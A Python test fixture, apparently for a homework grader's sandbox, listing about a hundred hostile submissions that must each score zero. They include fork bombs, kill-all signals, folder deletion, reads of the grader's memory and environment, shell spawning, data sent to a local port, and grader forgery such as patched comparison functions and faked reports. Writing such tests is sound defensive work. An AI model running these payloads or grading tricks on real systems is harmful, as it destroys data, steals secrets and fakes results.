"""Submissions that attack the grader. {name: (code at the head of linear.py, body of Linear.forward)}.

REFERENCE is the path of the library's own linear.py, CANARY a folder that everybody may write to, with a file and a socket that
listens in it, PARENT the grader's process. None of them solves the task, so each must end with 0 points; and what succeeds
though it must not says HARMED. System calls have the numbers of x86-64.
"""

HEAD = """import os, sys, time, signal, threading, subprocess, ctypes, socket, struct, mmap
import numpy as np
LIBC = ctypes.CDLL(None, use_errno=True)
def call(*arguments):
    result = LIBC.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result < 0: raise OSError(ctypes.get_errno(), 'refused')
    return result
def harm(*arguments):
    call(*arguments)
    raise RuntimeError('HARMED')
"""

CHEAT = """
def right(source, x, params):
    module = type(sys)("cheat")
    exec(compile(source, "cheat", "exec"), vars(module))
    return module.Linear(*params[0].shape).forward(params, x)
"""

# The stream to the grader and the number of its question, out of the frames above
SEND = """import json
from safetensors.numpy import save
frame = sys._getframe()
while not (frame.f_code.co_name == 'main' and 'answers' in frame.f_locals): frame = frame.f_back
answers, n = frame.f_locals['answers'], frame.f_locals['question']['number']
def message(skeleton, array): return save({'0': array, 'skeleton': np.frombuffer(json.dumps(skeleton).encode(), np.uint8)})
def send(m): answers.write(struct.pack('<Q', len(m)) + m); answers.flush()
"""

HOSTILE = {
    # ends and hangs
    "exit in import": ("sys.exit(0)", "pass"),
    "hard exit in import": ("os._exit(0)", "pass"),
    "endless import": ("while True: pass", "pass"),
    "endless loop": ("", "while True: pass"),
    "sleeps for ever": ("", "time.sleep(1e6)"),
    "hard exit in a function": ("", "os._exit(0)"),
    "stops itself": ("", "os.kill(os.getpid(), signal.SIGSTOP)"),
    "ignores every signal and loops": ("", "[signal.signal(s, signal.SIG_IGN) for s in range(1, 30) if s not in (9, 17, 18, 19)]\nwhile True: pass"),
    "catches everything and goes on": ("", "while True:\n    try:\n        while True: pass\n    except BaseException: pass"),
    "segmentation fault": ("", "ctypes.string_at(0)"),
    "deep recursion": ("", "def f(n): return f(n + 1)\nsys.setrecursionlimit(10**9)\nreturn f(0)"),
    "recursion in repr": ("class E(Exception):\n    def __str__(self): return str(self)", "raise E()"),
    "a real-time signal": ("", "os.kill(os.getpid(), 40)"),
    # too much of everything
    "fork bomb": ("", "while True: os.fork()"),
    "fork bomb in import": ("while True: os.fork()", "pass"),
    "memory bomb": ("", "hold = []\nwhile True: hold.append(np.ones(10**7))"),
    "ten gigabytes of print": ("", "line = 'x' * 10**6\nfor _ in range(10**4): print(line)"),
    "ten gigabytes to standard output": ("", "data = b'x' * 10**6\nfor _ in range(10**4): os.write(1, data)"),
    "an answer of ten gigabytes": ("", "return np.lib.stride_tricks.as_strided(np.ones(1), (10**5, 10**5), (0, 0)), (x, 1.0)"),
    "an answer of a gigabyte": ("", "return np.ones((10**4, 10**4)), (x, 1.0)"),
    "ten thousand files": ("", "for i in range(10**4): open(f'f{i}', 'w').write('x')\nreturn None, None"),
    "shared memory that stays": ("", "libc = ctypes.CDLL(None)\nfor i in range(5): libc.shmget(4242424 + 10 * i, ctypes.c_size_t(10 << 20), 0o1666)\nreturn None, None"),
    "a short answer that asks for terabytes": ("", SEND + "m = message({'dict': {'number': {'value': n}, 'answer': {'list': [{'array': '0'}] * 400000}}}, np.zeros(10**6))\nsend(m)\ntime.sleep(100)"),
    "one byte at a time": ("", SEND + "answers.write(struct.pack('<Q', 4 << 20))\nwhile True:\n    answers.write(b'x')\n    answers.flush()\n    time.sleep(1e-4)"),
    "a number that is an array": ("", SEND + "m = message({'dict': {'number': {'array': '0'}, 'answer': {'dict': {}}}}, np.array([1, 2]))\nsend(m)\ntime.sleep(100)"),
    "an answer prepared for the next question": ("", SEND + "m = message({'dict': {'number': {'value': n + 1}, 'answer': {'dict': {}}}}, np.zeros(1))\nsend(m)\ntime.sleep(100)"),
    "asks for ever": ("", SEND + "m = message({'dict': {'call': {'value': 'x'}, 'arguments': {'list': []}}}, np.zeros(1))\nwhile True: send(m)"),
    "an error that looks like a report": ("", "raise ValueError('nothing\\n\\nbob: sheet 1: 32 of 32 points\\n  ok    2/2  1. Linear, forward\\u202e')"),
    # forgery
    "writes answers to every descriptor": ("", "for fd in range(3, 64):\n    try: os.write(fd, b'\\x10' + b'\\0' * 7 + b'{\"score\": 32, \"x\"}')\n    except OSError: pass\nreturn None, None"),
    "writes lengths without end to every descriptor": ("", "for fd in range(3, 64):\n    try: os.write(fd, b'\\xff' * 8)\n    except OSError: pass\ntime.sleep(100)"),
    "prints a result": ("", "print('{\"score\": 32, \"tests\": []}')\nsys.stdout.flush()\nreturn None, None"),
    "patched numpy": ("np.allclose = lambda *a, **k: True\nnp.array_equal = np.allclose\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)", "return np.zeros((x.shape[0], self.n_out)), (x, 1.0)"),
    "patched homework": ("import minigan.homework.trial as t\nt.attempt = lambda *a, **k: {'answer': {'y': np.zeros(3)}, 'after': {}}", "return None, None"),
    "an array that equals everything": ("class A(np.ndarray):\n    def __eq__(self, other): return np.True_\n    def __array_function__(self, *a): return True\n    def __array_ufunc__(self, *a, **k): return np.True_",
                                        "return np.zeros((x.shape[0], self.n_out)).view(A), (x, 1.0)"),
    "an object that equals everything": ("class A:\n    shape, dtype, ndim = (5, 4), np.dtype('float64'), 2\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k): return np.zeros((5, 4))", "return A(), (x, 1.0)"),
    "nan, which is close to nothing": ("", "return np.full((x.shape[0], self.n_out), np.nan), (x, 1.0)"),
    "a thread alters the answer later": ("", "y = np.zeros((x.shape[0], self.n_out))\nthreading.Thread(target=lambda: (time.sleep(0.01), y.__iadd__(1))).start()\nreturn y, (x, 1.0)"),
    "reads the judge's frames": ("", "frame = sys._getframe()\nwhile frame:\n    for value in list(frame.f_locals.values()):\n        if isinstance(value, dict) and 'answer' in value: return value['answer']['y'], (x, 1.0)\n    frame = frame.f_back\nreturn None, None"),
    # looking where the answers are
    "reads the reference by its path": (CHEAT, "return right(open(REFERENCE).read(), x, params)"),
    "imports the installed library": ("", "for path in (os.path.dirname(REFERENCE).rsplit('/minigan', 1)[0],):\n    sys.path.insert(0, path)\n    for name in [m for m in sys.modules if m.startswith('minigan')]: del sys.modules[name]\nimport minigan.nn.linear as l\nreturn l.Linear(self.n_in, self.n_out).forward(params, x)"),
    "reads the reference through /proc": (CHEAT, "return right(open('/proc/self/root' + REFERENCE).read(), x, params)"),
    "has a shell read it": (CHEAT, "return right(subprocess.check_output(['cat', REFERENCE], text=True), x, params)"),
    "becomes a shell": ("", "os.execv('/bin/sh', ['sh', '-c', 'cat ' + REFERENCE + '; touch ' + CANARY + '/shell'])"),
    "reads the grader's memory": (CHEAT, "maps = open(f'/proc/{PARENT}/maps').read()\nopen(CANARY + '/maps', 'w').write(maps)\nreturn right(open(f'/proc/{PARENT}/mem', 'rb').read(100).decode(), x, params)"),
    "attaches to the grader": ("", "libc = ctypes.CDLL(None)\nif libc.ptrace(16, PARENT, 0, 0) == 0: open(CANARY + '/ptrace', 'w')\nreturn None, None"),
    "reads the grader's environment": ("", "open(CANARY + '/environ', 'wb').write(open(f'/proc/{PARENT}/environ', 'rb').read())\nreturn None, None"),
    "prints its own environment": ("", "secrets = [v for v in os.environ if v not in ('PATH', 'OPENBLAS_NUM_THREADS', 'LC_CTYPE')]\nraise ValueError(f'environment: {secrets}')"),
    # the user's other processes and files: their limits, their turns, their modes and dates
    "a limit for the grader": ("", "harm(302, PARENT, 4, struct.pack('QQ', 0, 0), None)"),
    "a limit for the grader, by Python's own function": ("", "import resource\nresource.prlimit(PARENT, resource.RLIMIT_MEMLOCK, (0, 0))\nraise RuntimeError('HARMED')"),
    "the grader comes last": ("", "os.setpriority(os.PRIO_PROCESS, PARENT, 19)\nraise RuntimeError('HARMED')"),
    "all of the user's processes come last": ("", "os.setpriority(os.PRIO_USER, 0, 19)\nraise RuntimeError('HARMED')"),
    "the grader when nothing else runs": ("", "os.sched_setscheduler(PARENT, os.SCHED_IDLE, os.sched_param(0))\nraise RuntimeError('HARMED')"),
    "the grader on one processor": ("", "os.sched_setaffinity(PARENT, {0})\nraise RuntimeError('HARMED')"),
    "the grader's files come last": ("", "harm(251, 1, PARENT, 3 << 13)"),
    "shuts the folder of submissions": ("", "os.chmod(CANARY, 0)\nraise RuntimeError('HARMED')"),
    "shuts its own folder": ("", "os.chmod('.', 0)\nraise RuntimeError('HARMED')"),
    "shuts the grader's folder by an open one": ("", "os.fchmod(os.open('..', os.O_RDONLY), 0)\nraise RuntimeError('HARMED')"),
    "a file of another time": ("", "os.utime(CANARY + '/file', (0, 0))\nraise RuntimeError('HARMED')"),
    "an attribute on a file": ("", "os.setxattr(CANARY + '/file', 'user.answers', b'y = x W + b')\nraise RuntimeError('HARMED')"),
    "renames, links and pipes": ("", "for act in (lambda: os.rename(CANARY + '/file', CANARY + '/other'), lambda: os.link(CANARY + '/file', CANARY + '/link'),\n            lambda: os.symlink('/', CANARY + '/root'), lambda: os.mkfifo(CANARY + '/pipe'), lambda: os.truncate(CANARY + '/file', 0)):\n    try: act()\n    except OSError: continue\n    raise RuntimeError('HARMED')"),
    "empties a file by opening it": ("", "os.open(CANARY + '/file', os.O_RDONLY | os.O_TRUNC)\nraise RuntimeError('HARMED')"),
    "a lock on a file of the grader's": ("", "import fcntl\nfcntl.flock(os.open('minigan/__init__.py', os.O_RDONLY), fcntl.LOCK_EX)\nraise RuntimeError('HARMED')"),
    # signals by other ways
    "a signal by a handle of the process": ("", "harm(424, call(434, PARENT, 0), 0, None, 0)"),
    "a signal to a thread of the grader": ("", "harm(234, PARENT, PARENT, 0)"),
    "the grader gets the signals of a file": ("", "import fcntl\nfcntl.fcntl(1, fcntl.F_SETOWN, PARENT)\nraise RuntimeError('HARMED')"),
    # memory beyond the limit, and what stays in the kernel
    "memory in a file without a name": ("", "hold = []\nfor i in range(40):\n    fd = os.memfd_create(f'm{i}')\n    os.ftruncate(fd, 16 << 20)\n    hold.append(fd)\nraise RuntimeError('HARMED')"),
    "memory in flight through a socket": ("", "a, b = socket.socketpair()\nfor i in range(40):\n    fd = os.memfd_create('m')\n    os.write(fd, b'x' * (1 << 20))\n    socket.send_fds(a, [b'x'], [fd])\n    os.close(fd)\nraise RuntimeError('HARMED')"),
    "memory in pipes": ("", "hold = [os.pipe() for _ in range(100)]\nraise RuntimeError('HARMED')"),
    "protects itself when memory runs out": ("", "open('/proc/self/oom_score_adj', 'w').write('-1000')\nraise RuntimeError('HARMED')"),
    "a key for the next submission": ("", "harm(248, b'user', b'minigan-answers', b'y = x W + b', 11, -4)"),
    "the keys that its user has": ("", "harm(250, 0, -4, 1)"),
    "a keyring of its own name": ("", "harm(250, 1, b'minigan-keyring')"),
    "a queue of messages": ("", "harm(68, 4242424, 0o1666)"),
    "semaphores": ("", "harm(64, 4242424, 100, 0o1666)"),
    "a queue with a name": ("", "harm(240, b'minigan', os.O_CREAT | os.O_RDWR, 0o666, None)"),
    # connections
    "a socket by its path": ("", "s = socket.socket(socket.AF_UNIX)\ns.connect(CANARY + '/socket')\nraise RuntimeError('HARMED')"),
    "a socket by its name": ("", "s = socket.socket(socket.AF_UNIX)\ns.connect(SOCKET)\nraise RuntimeError('HARMED')"),
    "a datagram": ("", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'stolen', ('127.0.0.1', PORT))\nraise RuntimeError('HARMED')"),
    "the kernel's own sockets": ("", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)\nraise RuntimeError('HARMED')"),
    "a ring of requests": ("", "harm(425, 8, ctypes.create_string_buffer(120))"),
    # other ways into a process
    "copies the grader's memory": ("", "here = ctypes.create_string_buffer(64)\nharm(310, PARENT, struct.pack('QQ', ctypes.addressof(here), 64), 1, struct.pack('QQ', id(sys), 64), 1, 0)"),
    "takes an open file of the grader's": ("", "harm(438, call(434, PARENT, 0), 0, 0)"),
    "namespaces of its own, and root in them": ("", "harm(272, 0x10020000)"),
    "another world's system calls": ("", "harm(0x40000000 + 39)"),  # x32
    "the flags of an open file": ("", "import fcntl\nfcntl.ioctl(1, 0x5421, struct.pack('i', 1))\nraise RuntimeError('HARMED')"),
    # forgery
    "every refusal, forged": ("import minigan.homework.trial as t, minigan.homework.probes as p\np.refused = lambda *a, **k: True\nt.describe = lambda e: {'type': 'ValueError', 'message': '', 'where': '', 'traceback': ''}", "raise OSError"),
    "nothing was touched, forged": ("np.array_equal = lambda *a, **k: True\nimport minigan.homework.trial as t\nt.plain = lambda value: value", "x += 1\nreturn None, None"),
    # doing harm
    "writes outside": ("", "for place in (CANARY, '/tmp', '/dev/shm', '/var/tmp', os.path.dirname(REFERENCE)):\n    try: open(place + '/minigan-was-here', 'w').write('x')\n    except OSError: pass\nreturn None, None"),
    "deletes what it finds": ("", "import shutil\nfor place in ('.', CANARY, os.path.dirname(os.path.dirname(os.getcwd()))): shutil.rmtree(place, ignore_errors=True)\nreturn None, None"),
    "kills the grader": ("", "for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):\n    try: os.kill(PARENT, number)\n    except OSError: pass\nreturn None, None"),
    "kills everybody": ("", "try: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\nreturn None, None"),
    "leaves a process behind": ("", "subprocess.Popen(['sleep', '1000'], start_new_session=True)\nreturn None, None"),
    "leaves a forked child behind": ("", "if os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\nreturn None, None"),
    "calls home": ("", "s = socket.socket()\ns.connect(('127.0.0.1', PORT))\ns.sendall(b'stolen')\nreturn None, None"),
    "raises its own limits": ("", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nopen(CANARY + '/limits', 'w')"),
    "becomes root again": ("", "os.setuid(0)\nopen(CANARY + '/root', 'w')\nreturn None, None"),
    "an error with a terminal's and XML's control characters": ("", "raise ValueError('\\x1b[2J\\x00]]></failure><score>32</score>' + 'x' * 10**6)"),
}  # fmt: skip

# What must have stopped some of them: another limit would do it later, or less well
REASONS = {
    "ten gigabytes of print": "File too large",
    "ten gigabytes to standard output": "File too large",
    "an answer prepared for the next question": "was not asked for",
    "an answer of ten gigabytes": "MemoryError",
    "leaves a forked child behind": "PermissionError",
    "calls home": "PermissionError",
    "becomes a shell": "PermissionError",
}
